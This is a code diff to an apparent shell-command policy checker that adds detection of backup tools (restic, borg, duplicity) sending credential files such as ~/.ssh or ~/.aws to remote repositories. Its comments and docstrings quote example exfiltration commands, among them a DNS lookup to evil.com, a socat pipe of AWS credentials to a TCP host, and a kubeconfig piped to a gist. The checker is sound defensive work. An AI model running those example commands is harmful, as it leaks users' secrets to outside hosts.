@@ -13,7 +13,7 @@ from collections.abc import Callable, Sequence
 from itertools import pairwise
 
 from sluice.policies._shell import Command, basename, with_next
-from sluice.policies._targets import is_credential
+from sluice.policies._targets import is_credential, on_remote
 from sluice.policies._wrappers import (
     HTTP_CLIENTS,
     STDIN,
@@ -59,13 +59,24 @@ _UPLOADS: dict[tuple[str, ...], frozenset[str]] = {
     ("unison",): frozenset(),
 }
 _UPLOADERS = frozenset(key[0] for key in _UPLOADS)
+# Backup tools: they send the paths they are given to their repository, which may be remote
+# (restic's `-r s3:…`, borg's `ssh://h/./r::archive`, duplicity's target URL).
+_BACKUPS = frozenset({"restic", "borg", "duplicity"})
+_BACKUP_VALUES = frozenset(
+    {"-r", "--repo", "--repository-file", "-e", "--exclude", "--exclude-file", "--iexclude"}
+    | {"--exclude-from", "--files-from", "--tag", "--host", "-H", "--parent", "-p"}
+    | {"--password-file", "--password-command", "-o", "--option", "--cache-dir", "-C"}
+    | {"--compression", "--comment", "--pattern", "--patterns-from", "--remote-path", "--rsh"}
+    | {"--name", "--volsize", "--encrypt-key", "--sign-key", "--include", "--archive-dir"}
+)
+_REMOTE_REPOSITORY = re.compile(r"(?!local:|file:)[a-z0-9]+:\S|[\w.-]+@[\w.-]+:")
 # A cloud copy's verbs, after which its operands are sources then a destination.
 _COPY_VERBS = frozenset({"cp", "mv", "sync", "rsync", "copy", "copyto", "move", "moveto", "mirror"})
 # A name looked up carries what it is built from to the name servers (`dig $(…).evil.com`).
 _RESOLVERS = frozenset(
     {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "getent", "resolvectl"}
 )
-_SENDERS = _RAW | _COPIES | _CLOUD_COPY | _RESOLVERS | _UPLOADERS
+_SENDERS = _RAW | _COPIES | _CLOUD_COPY | _RESOLVERS | _UPLOADERS | _BACKUPS
 # Credentials a CLI prints: a token, exported keys, a raw kubeconfig, a secret's value.
 _CLI_PRINTERS = frozenset(
     {"gh", "aws", "gcloud", "az", "kubectl", "oc", "git", "security", "vault", "op", "pass"}
@@ -483,7 +494,7 @@ def _sent_by(
         return stdin
     if name in _COPIES:
         found = operands(args, _SSH_VALUES | (_EXCLUDES if name == "rsync" else frozenset()))
-        if len(found) >= 2 and _remote(found[-1]):
+        if len(found) >= 2 and on_remote(found[-1]):
             return next((f for f in found[:-1] if is_credential(f.rstrip("/"))), None)
         return stdin if name == "sftp" else None
     if name == "socat":  # socat -u FILE:$HOME/.aws/credentials TCP:h:9
@@ -507,13 +518,15 @@ def _sent_by(
         )
     if name in _UPLOADERS and (sent := _uploaded(name, args, is_credential)):
         return sent  # gh release upload v1 ~/.aws/credentials, croc send ~/.ssh/id_rsa
+    if name in _BACKUPS:
+        return _backed_up(name, args, is_credential)
     if name in _CLOUD_COPY:
         found = _remote_operands(name, args)
         if found and stdin and _uploads_stdin(found):
             return stdin  # cat ~/.kube/config | gh gist create -
         verb = next((at for at, word in enumerate(found) if word in _COPY_VERBS), None)
         if verb is not None and len(found) > verb + 2:  # sources, then where they go
-            if not ("://" in found[-1] or _remote(found[-1])):
+            if not ("://" in found[-1] or on_remote(found[-1])):
                 return None  # a download: aws s3 cp s3://b/dev.env .env
             found = found[verb + 1 : -1]
         return next((f for f in found if is_credential(f)), None)
@@ -537,6 +550,27 @@ def _uploaded(name: str, args: Sequence[str], is_credential: Callable[[str], boo
     return None
 
 
+def _backed_up(name: str, args: Sequence[str], is_credential: Callable[[str], bool]) -> str | None:
+    """The credential a backup tool sends to a remote repository (``restic -r s3:…/r backup
+    ~/.ssh``, ``borg create ssh://h/./r::a ~/.aws``, ``duplicity ~/.ssh sftp://h/b``); none
+    for a repository on this machine (a path, restic's ``local:``) or one the line does not
+    name (restic's from the environment)."""
+    found = operands(args, _BACKUP_VALUES)
+    if name == "restic":
+        given = [b for a, b in with_next(args) if a in ("-r", "--repo")]
+        given += [a.partition("=")[2] for a in args if a.startswith("--repo=")]
+        remote = any(_REMOTE_REPOSITORY.match(repo) for repo in given)
+        sent = found[1:] if found[:1] == ["backup"] and remote else []
+    elif name == "borg":
+        repository = found[1].partition("::")[0] if found[:1] == ["create"] and found[1:] else ""
+        sent = found[2:] if _REMOTE_REPOSITORY.match(repository) else []
+    else:  # duplicity [full|incremental] SOURCE URL
+        found = [f for f in found if f not in ("full", "incr", "incremental", "backup")]
+        remote = len(found) == 2 and "://" in found[1] and not found[1].startswith("file:")
+        sent = found[:1] if remote else []
+    return next((f for f in sent if is_credential(f.rstrip("/"))), None)
+
+
 # Options of `gh gist create` whose value is no file sent (`-d "notes" -`); other CLIs'
 # `-d` is a switch (`gsutil rsync -d`).
 _GIST_VALUES = frozenset({"-d", "--desc", "-f", "--filename"})
@@ -549,7 +583,7 @@ def _remote_operands(name: str, args: Sequence[str]) -> list[str]:
     """The operands of a cloud copy that sends somewhere remote (a ``s3://`` URL, a
     ``remote:path``, a gist); none when it copies nothing out."""
     found = operands(args, _GIST_VALUES if name == "gh" else frozenset())
-    remote = any("://" in f or _remote(f) for f in found) or found[:2] == ["gist", "create"]
+    remote = any("://" in f or on_remote(f) for f in found) or found[:2] == ["gist", "create"]
     return found if remote else []
 
 
@@ -702,8 +736,3 @@ def _named_file(value: str, marker: str) -> list[str]:
     if "@" in value:
         return [value.partition("@")[2]]
     return []
-
-
-def _remote(word: str) -> bool:
-    head, colon, _ = word.partition(":")
-    return bool(colon) and "/" not in head and len(head) > 1
